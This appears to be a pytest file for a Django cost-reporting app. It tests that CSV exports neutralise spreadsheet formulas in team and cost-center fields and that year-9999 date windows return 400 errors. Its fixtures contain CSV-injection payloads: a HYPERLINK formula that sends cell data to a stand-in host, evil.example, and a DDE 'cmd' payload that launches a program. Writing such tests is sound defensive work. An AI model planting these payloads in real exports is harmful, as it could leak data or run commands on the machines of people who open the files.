"""Hostile input to the cost reports: a project's team or cost center that a spreadsheet would run as a formula is
written to the cost CSV as text (prefixed with ``'``, OWASP's advice) while numbers stay numbers; a window at the end of
the calendar (year 9999) is a 400 naming ``window`` on the pages and the API, never a 500."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from projects.models import Project
from tests.support.factories import fill
from tests.support.pods import running_pod
from usage import costmodel
from usage.costmodel import Window, step_edges
from usage.sampling import sample
from usage.views import csv_cell

pytestmark = pytest.mark.django_db
TEAM = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
COST_CENTER = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(project, caches):
    """``ads`` with a team and cost center that are formulas, and three minutes of its two OnDemand cores."""
    Project.objects.filter(pk=project.pk).update(team=TEAM, cost_center=COST_CENTER)
    fill(caches, "member-a", pods=[running_pod("web-1", "ads"), running_pod("web-2", "ads")])
    fill(caches, "member-b", pods=[])
    now = timezone.now()
    for m in (3, 2, 1):
        sample(now - timedelta(minutes=m))


def rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_admins_cost_csv_writes_a_formula_team_and_cost_center_as_text(hostile, admin_user, client):
    client.force_login(admin_user)
    query = {"window": "24h", "step": "window", "aggregate": "team,cost_center"}

    header, *body = rows(client.get("/usage/cost.csv", query))

    (line,) = [r for r in body if r[header.index("name")] != "__idle__"]
    assert line[header.index("team")] == "'" + TEAM and line[header.index("cost_center")] == "'" + COST_CENTER
    assert line[header.index("name")] == f"'{TEAM}/{COST_CENTER}"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in body for cell in r)
    assert float(line[header.index("cpu_request_core_hours")]) > 0  # a number, not "'0.1"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),  # text that looks like a number is still text: it came from a person
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("team-a", "team-a"),
        ("", ""),
        (-1.5, -1.5),  # numbers stay numbers, negative ones too
        (0, 0),
    ],
)
def test_a_cell_is_neutralised_only_when_it_is_text_a_spreadsheet_would_run(value, written):
    assert csv_cell(value) == written


WINDOWS = [
    "9999-12-31T00:00,9999-12-31T23:59",
    "9999-12-31T22:00,9999-12-31T23:59",
    "9999-12-30T00:00,9999-12-31T23:00",
]


@pytest.mark.parametrize("window", WINDOWS)
@pytest.mark.parametrize("step", ["1h", "1d"])
@pytest.mark.parametrize("url", ["/usage/", "/usage/projects/ads/", "/usage/cost.csv", "/usage/projects/ads/cost.csv"])
def test_a_window_at_the_end_of_the_calendar_is_a_400_on_the_pages(project, admin_user, client, url, window, step):
    client.force_login(admin_user)
    client.raise_request_exception = False

    response = client.get(url, {"window": window, "step": step})

    assert response.status_code == 400 and b"A window ends by 9999-12-31T00:00Z" in response.content


@pytest.mark.parametrize("window", WINDOWS)
@pytest.mark.parametrize("url", ["/api/v1/cost/", "/api/v1/projects/ads/cost/"])
def test_a_window_at_the_end_of_the_calendar_is_a_400_naming_window_over_the_api(project, admin_user, url, window):
    client = APIClient()
    client.force_authenticate(admin_user)
    client.raise_request_exception = False

    response = client.get(url, {"window": window, "step": "1h"})

    assert response.status_code == 400, response.content
    assert [f["path"] for f in response.json()["error"]["fields"]] == ["window"]


def test_the_step_edges_of_any_representable_window_are_computed_without_overflow():
    end = datetime.max.replace(tzinfo=UTC) - timedelta(seconds=59, microseconds=999999)  # 9999-12-31T23:59
    edges = step_edges(Window(end - timedelta(hours=25), end), 86400)

    assert edges[0][0] == end - timedelta(hours=25) and edges[-1][1] == end
    assert all(a < b for a, b in edges) and [b for _, b in edges[:-1]] == [a for a, _ in edges[1:]]
    assert edges[0][1] == datetime(9999, 12, 31, tzinfo=UTC)


def test_a_window_ending_by_the_last_day_still_reads():
    window = costmodel.parse_window("9999-12-29T00:00,9999-12-31T00:00", timezone.now())
    assert step_edges(window, 3600)[-1] == (datetime(9999, 12, 30, 23, tzinfo=UTC), window.end)
    assert step_edges(window, 86400)[-1] == (datetime(9999, 12, 30, tzinfo=UTC), window.end)
